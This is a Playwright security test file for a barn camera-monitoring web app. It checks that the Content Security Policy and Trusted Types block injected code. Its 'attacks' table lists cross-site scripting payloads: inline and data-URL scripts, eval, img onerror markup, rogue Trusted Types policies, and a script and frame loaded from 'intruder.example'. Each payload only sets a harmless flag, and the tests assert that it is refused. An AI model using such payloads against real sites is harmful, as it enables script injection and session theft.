import type { Page } from '@playwright/test';
import { expect, test } from '../harness/suite-test';
import { collectReports } from './policy-reports';

test('a walk through every screen violates nothing', async ({ suite }) => {
  const read = await collectReports(suite.page);
  await suite.walkToCameras('north-barn', 'manager');
  await suite.openCamera('Pen 1 feeder');
  await suite.expectTileState(/^(live|lagging)$/);
  await suite.goTo(suite.words('mf-incidents', 'nav.incidents'));
  await expect(suite.page.locator('main li article').first()).toBeVisible();
  await suite.goTo(suite.words('mf-regions', 'nav.regionTypes'));
  await suite.page
    .getByRole('button', { name: /Pick a colour/ })
    .first()
    .click();
  await expect(suite.page.getByText(suite.words('shared', 'color.presets'))).toBeVisible();
  await suite.page.keyboard.press('Escape');
  await suite.goTo(suite.words('mf-admin', 'nav.cameraOverview'));
  await expect(suite.page.getByText('Spare camera').first()).toBeVisible();
  await suite.goTo(suite.words('shell', 'systemInformation.title'));
  await suite.openAccount();
  expect(await read()).toEqual([]);
});

/** Lets a moment pass: what the test driver runs at once stands above the policy, what comes later does not. */
async function giveTime(page: Page): Promise<void> {
  await page.addInitScript(() =>
    Reflect.set(globalThis, 'barnwatchLater', () => new Promise((resolve) => setTimeout(resolve))),
  );
}

declare const barnwatchLater: () => Promise<void>;

/** What an attacker who can put words into the page would try. */
const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  'an inline script': async () => {
    await barnwatchLater();
    const script = document.createElement('script');
    script.append('globalThis.barnwatchIntruded = true');
    document.body.append(script);
  },
  eval: async () => {
    await barnwatchLater();
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
    globalThis.eval('globalThis.barnwatchIntruded = true');
  },
  'a function made of text': async () => {
    await barnwatchLater();
    new Function('globalThis.barnwatchIntruded = true')();
  },
  'a timer with text': async () => {
    await barnwatchLater();
    setTimeout('globalThis.barnwatchIntruded = true', 0);
  },
  'a script from elsewhere': async () => {
    await barnwatchLater();
    const script = document.createElement('script');
    script.src = 'https://intruder.example/x.js';
    document.body.append(script);
  },
  'a script as data': async () => {
    await barnwatchLater();
    const script = document.createElement('script');
    script.src = 'data:text/javascript,globalThis.barnwatchIntruded=true';
    document.body.append(script);
  },
  'markup as text': async () => {
    await barnwatchLater();
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.barnwatchIntruded = true">');
  },
  'markup by innerHTML': async () => {
    await barnwatchLater();
    document.createElement('div').innerHTML = '<img src="x" onerror="globalThis.barnwatchIntruded = true">';
  },
  'an event handler': async () => {
    await barnwatchLater();
    const image = document.createElement('img');
    image.setAttribute('onerror', 'globalThis.barnwatchIntruded = true');
    image.src = 'data:,';
    document.body.append(image);
  },
  'a policy of its own': async () => {
    await barnwatchLater();
    const factory = Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown };
    factory.createPolicy('intruder', { createHTML: (text: string) => text });
  },
  "the sanitiser's policy, made by somebody else": async () => {
    await barnwatchLater();
    const factory = Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown };
    factory.createPolicy('dompurify', { createHTML: (text: string) => text });
  },
  'the policy of the page, made by somebody else': async () => {
    await barnwatchLater();
    const factory = Reflect.get(globalThis, 'trustedTypes') as { createPolicy(name: string, rules: object): unknown };
    factory.createPolicy('default', { createHTML: (text: string) => text, createScriptURL: (text: string) => text });
  },
  'a frame': async () => {
    await barnwatchLater();
    const frame = document.createElement('iframe');
    frame.src = 'https://intruder.example/';
    document.body.append(frame);
  },
};

for (const [name, attack] of Object.entries(attacks)) {
  test(`${name} is refused`, async ({ suite }) => {
    suite.watch.expect(/Security Policy|Trusted|TypeError|intruder\.example|EvalError|Markup does not pass/);
    await giveTime(suite.page);
    const read = await collectReports(suite.page);
    await suite.start();
    const refusal = await suite.page.evaluate(attack).then(
      () => '',
      (cause: unknown) => String(cause),
    );
    // The browser says so in one of three ways: it throws, it reports, or it complains on the console.
    const complaint = () => suite.watch.all().some((trouble) => /Security Policy|Trusted/.test(trouble));
    await expect
      .poll(async () => refusal !== '' || complaint() || (await read()).length > 0, { message: 'it is refused' })
      .toBe(true);
    expect(await suite.page.evaluate(() => Reflect.get(globalThis, 'barnwatchIntruded'))).toBeUndefined();
  });
}

test('both policies of Trusted Types are made by the program of the suite, before a script of any remote can ask', async ({
  suite,
}) => {
  await suite.page.addInitScript(() => {
    interface Factory {
      createPolicy(name: string, rules: object): unknown;
    }
    const factory = Reflect.get(globalThis, 'trustedTypes') as Factory;
    const made: object[] = [];
    Reflect.set(globalThis, 'barnwatchPolicies', made);
    const createPolicy = factory.createPolicy.bind(factory);
    factory.createPolicy = (name, rules) => {
      const scripts = [...document.scripts].map(({ src }) => new URL(src, location.href).pathname);
      const by = /\/(remotes\/[^/]+|shell)[./]/.exec(new Error().stack ?? '')?.[1];
      made.push({ name, by, remoteScripts: scripts.filter((script) => script.startsWith('/remotes/')) });
      return createPolicy(name, rules);
    };
  });
  await suite.startAtCameras('north-barn', 'manager');
  expect(await suite.page.evaluate(() => Reflect.get(globalThis, 'barnwatchPolicies'))).toEqual([
    { name: 'default', by: 'shell', remoteScripts: [] },
    { name: 'dompurify', by: 'shell', remoteScripts: [] },
  ]);
});
